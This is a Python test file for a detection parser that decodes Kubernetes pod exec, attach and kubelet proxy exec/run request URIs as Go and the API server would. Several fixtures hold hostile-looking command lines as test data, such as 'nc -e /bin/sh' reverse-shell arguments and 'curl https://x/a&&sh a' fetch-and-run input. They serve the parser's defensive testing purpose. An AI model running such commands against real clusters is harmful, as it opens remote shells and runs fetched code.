"""ExecRequest: the exec request decoded with Go net/url and API-server semantics."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from auditstream.detections.exec.request import (
    ExecRequest,
    go_unescape,
    parse_exec_request,
    parse_query,
)

POD = "/api/v1/namespaces/prod/pods/web-0"
_UNRESERVED = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_.~")


def go_query_escape(text: str, *, space: str = "+") -> str:
    """Reference encoder: Go ``url.QueryEscape`` (``space="%20"`` for the JavaScript client)."""
    out = []
    for byte in text.encode("utf-8"):
        char = chr(byte)
        if char in _UNRESERVED:
            out.append(char)
        elif char == " ":
            out.append(space)
        else:
            out.append(f"%{byte:02X}")
    return "".join(out)


def commands(argv: list[str], space: str = "+") -> str:
    return "&".join("command=" + go_query_escape(a, space=space) for a in argv)


def parse(query: str, sub: str = "exec") -> ExecRequest:
    found = parse_exec_request(f"{POD}/{sub}?{query}", sub)
    assert found is not None
    return found


ARGV = ["sh", "-c", "id -a && echo 'a&b' ; printf '%s\\n' x+y"]


def test_kubectl_sorted_keys() -> None:
    req = parse(commands(ARGV) + "&container=c&stdin=true&stdout=true&tty=true")
    assert req.argv == tuple(ARGV)
    assert (req.container, req.namespace, req.pod, req.kind) == ("c", "prod", "web-0", "exec")
    assert (req.stdin, req.stdout, req.stderr, req.tty) == (True, True, False, True)
    assert req.dropped_pairs == 0


def test_javascript_client_stdout_first_with_percent20() -> None:
    query = "stdout=true&stderr=true&stdin=false&tty=false&container=c&" + commands(ARGV, "%20")
    req = parse(query)
    assert req.argv == tuple(ARGV)
    assert (req.stdin, req.stdout, req.stderr, req.tty) == (False, True, True, False)


def test_rancher_container_first_with_ones() -> None:
    req = parse("container=c&stdout=1&stdin=1&stderr=1&tty=1&" + commands(ARGV))
    assert req.argv == tuple(ARGV)
    assert (req.stdin, req.stdout, req.stderr, req.tty) == (True, True, True, True)


def test_python_client_capitalised_booleans() -> None:
    req = parse(commands(ARGV) + "&container=c&stderr=True&stdin=False&stdout=True&tty=False")
    assert (req.stdin, req.stdout, req.stderr, req.tty) == (False, True, True, False)


@pytest.mark.parametrize(
    ("value", "expected"),
    [("0", False), ("false", False), ("FALSE", False), ("fAlSe", False), ("1", True),
     ("true", True), ("", True), ("f", True), ("no", True), ("yes", True)],
)  # fmt: skip
def test_api_server_boolean_rules(value: str, expected: bool) -> None:
    """Convert_Slice_string_To_bool: only 0/false (any case) are false; "" and "f" are true."""
    assert parse(f"command=id&stdin={value}").stdin is expected


def test_first_boolean_and_first_container_win() -> None:
    req = parse("command=id&stdin=false&stdin=true&container=a&container=b")
    assert (req.stdin, req.container) == (False, "a")


def test_absent_booleans_are_false() -> None:
    req = parse("command=id")
    assert (req.stdin, req.stdout, req.stderr, req.tty, req.container) == (
        False, False, False, False, "",
    )  # fmt: skip


@pytest.mark.parametrize("bad", ["x=%zz", "x=%4", "x=%", "%G1=1", "x=1;y=2", "a;b", "x=%e"])
def test_malformed_pair_is_dropped_and_the_rest_kept(bad: str) -> None:
    req = parse(f"{bad}&command=nc&command=-e&command=%2Fbin%2Fsh&stdout=1")
    assert req.argv == ("nc", "-e", "/bin/sh")
    assert req.dropped_pairs == 1


def test_malformed_command_value_drops_only_that_argument() -> None:
    req = parse("command=sh&command=%ZZbad&command=-i")
    assert req.argv == ("sh", "-i")
    assert req.dropped_pairs == 1


def test_plus_is_space_and_encoded_plus_is_plus() -> None:
    assert parse("command=a+b&command=c%2Bd").argv == ("a b", "c+d")


def test_ampersand_and_newline_inside_an_argument() -> None:
    req = parse(commands(["sh", "-c", "curl https://x/a&&sh a\nid"]))
    assert req.argv[2] == "curl https://x/a&&sh a\nid"


def test_empty_pairs_and_keys_without_value() -> None:
    req = parse("&&command=&command=id&&")
    assert req.argv == ("", "id")
    assert req.dropped_pairs == 0


def test_invalid_utf8_becomes_replacement_character() -> None:
    assert parse("command=n%FFc").argv == ("n\ufffdc",)


def test_fragment_marker_is_part_of_the_query() -> None:
    """Go's ParseRequestURI keeps ``#`` in RawQuery; the server decodes it as data."""
    assert parse("command=sh&command=-c&command=id#x").argv == ("sh", "-c", "id#x")


def test_attach_has_no_argv() -> None:
    req = parse("container=c&stdin=true&stdout=true&tty=true&command=ignored", "attach")
    assert (req.kind, req.argv, req.container) == ("attach", (), "c")


def test_kubelet_proxy_exec_with_and_without_uid() -> None:
    uri = "/api/v1/nodes/node-1/proxy/exec/ns/pod/ctr?command=id&command=-a&output=1&tty=true"
    req = parse_exec_request(uri, "proxy")
    assert req is not None
    assert (req.kind, req.node, req.namespace, req.pod, req.container) == (
        "proxy_exec", "node-1", "ns", "pod", "ctr",
    )  # fmt: skip
    assert req.argv == ("id", "-a")
    assert (req.stdout, req.tty) == (True, False)  # the kubelet only accepts "1"
    with_uid = parse_exec_request("/api/v1/nodes/n/proxy/exec/ns/pod/uid-1/ctr?command=id", None)
    assert with_uid is not None and with_uid.container == "ctr"


def test_kubelet_proxy_run_splits_cmd_on_spaces() -> None:
    req = parse_exec_request("/api/v1/nodes/n/proxy/run/ns/pod/c?cmd=nc+-e+%2Fbin%2Fsh+h+1", None)
    assert req is not None
    assert (req.kind, req.argv) == ("proxy_run", ("nc", "-e", "/bin/sh", "h", "1"))


def test_path_segments_are_percent_decoded() -> None:
    req = parse_exec_request("/api/v1/namespaces/prod/pods/web%2D0/exec?command=id", "exec")
    assert req is not None and req.pod == "web-0"
    split = parse_exec_request("/api/v1/nodes/n/proxy/exec%2Fns%2Fpod%2Fc?command=id", "proxy")
    assert split is not None and (split.namespace, split.container) == ("ns", "c")


@pytest.mark.parametrize(
    ("uri", "sub"),
    [
        (f"{POD}/log?command=id", "log"),
        (f"{POD}/portforward?ports=80", "portforward"),
        (f"{POD}?command=id", None),
        ("/api/v1/namespaces/prod/pods/web-0/exec?command=id", "status"),
        ("/api/v1/namespaces/prod/pods/web%zz/exec?command=id", "exec"),
        ("/api/v1/namespaces/prod/services/s/proxy/exec/a/b/c?command=id", "proxy"),
        ("/api/v1/nodes/n/proxy/metrics?command=id", "proxy"),
    ],
)
def test_not_an_exec_request(uri: str, sub: str | None) -> None:
    assert parse_exec_request(uri, sub) is None


def test_parse_query_matches_go_examples() -> None:
    values, dropped = parse_query("x=1&y=2;z&x=%41&=empty&k")
    assert values == {"x": ["1", "A"], "": ["empty"], "k": [""]}
    assert dropped == 1


def test_go_unescape_path_mode_keeps_plus() -> None:
    assert go_unescape("a+b%20c", query_component=False) == "a+b c"
    assert go_unescape("%4", query_component=False) is None


_ARGS = st.lists(st.text(max_size=40), min_size=1, max_size=8)


@given(argv=_ARGS, space=st.sampled_from(["+", "%20"]), order=st.sampled_from(range(4)))
def test_roundtrip_any_argv_any_client_order(argv: list[str], space: str, order: int) -> None:
    """Whatever a client encodes and however it orders keys, argv comes back unchanged."""
    others = ["container=c", "stdin=true", "stdout=1", "tty=False", "x=%zz", "junk;=1"]
    parts = [*others[:order], commands(argv, space), *others[order:]]
    req = parse("&".join(parts))
    assert req.argv == tuple(argv)
    assert req.container == "c"


@given(query=st.text(max_size=200))
def test_never_raises_on_arbitrary_queries(query: str) -> None:
    req = parse_exec_request(f"{POD}/exec?{query}", "exec")
    assert req is not None
    assert all(isinstance(a, str) for a in req.argv)
